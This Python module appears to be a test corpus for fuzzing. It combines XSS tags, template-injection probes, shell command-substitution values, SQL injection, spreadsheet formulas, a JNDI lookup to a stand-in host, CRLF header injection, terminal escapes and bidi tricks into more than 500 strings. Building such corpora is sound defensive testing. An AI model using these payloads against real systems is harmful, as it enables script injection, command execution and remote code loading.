"""More than 500 texts that have broken out of something: HTML, scripts, templates, headers, terminals, bidi."""

# ruff: noqa: E501 - a table of texts

from __future__ import annotations

from itertools import product

_HTML = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><script>alert(1)</script>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<style>@import'//evil.example/x'</style>", "<link rel=stylesheet href=//evil.example/x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>]]>",
    "</pre><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "' onmouseover='alert(1)", '" onmouseover="alert(1)', "` onmouseover=`alert(1)", "&lt;script&gt;", "&#60;script&#62;",
    "%3Cscript%3E", "\\u003cscript\\u003e", "<\x00script>", "<scr\x00ipt>", "\uff1cscript\uff1e", "<form action=//evil.example>",
)  # fmt: skip
_TEMPLATE = (
    "{{7*7}}", "{{config}}", "{% for x in y %}", "{#", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}",
    "{{ attribute }}", "{{first_name | fallback: 'x'}}", "%s%n", "{0.__class__}", "{domain}", "$(id)", "`id`", ";id", "|id",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")", "${jndi:ldap://evil.example/x}", "' OR 1=1 --",
)  # fmt: skip
_CONTROL = (
    "\r\nSet-Cookie: x=1", "\r\n\r\n<script>alert(1)</script>", "\n{\"event\":\"forged\"}", "\x1b[31mred", "\x1b]0;title\x07",
    "\x1b[2J", "\x9b31m", "\x00", "\x07", "\x08\x08\x08", "\x7f", "\x85", "\u2028", "\u2029", "\u202eexe.txt", "\u2066x\u2069",
    "\u200b", "\u200f", "\ufeff", "\u00ad", "\U000e0041", "a\u0300\u0301\u0302", "\u0430pple", "\x0c", "\x0b",
)  # fmt: skip
_WRAPS = ("{}", "a{}b", "{}.example", "x=({})", "include:{}", " {} ", "{}{}")


def payloads() -> list[str]:
    """All of them, each also inside something harmless."""
    seeds = (*_HTML, *_TEMPLATE, *_CONTROL)
    return list(dict.fromkeys(wrap.replace("{}", seed) for wrap, seed in product(_WRAPS, seeds)))


assert len(payloads()) >= 500
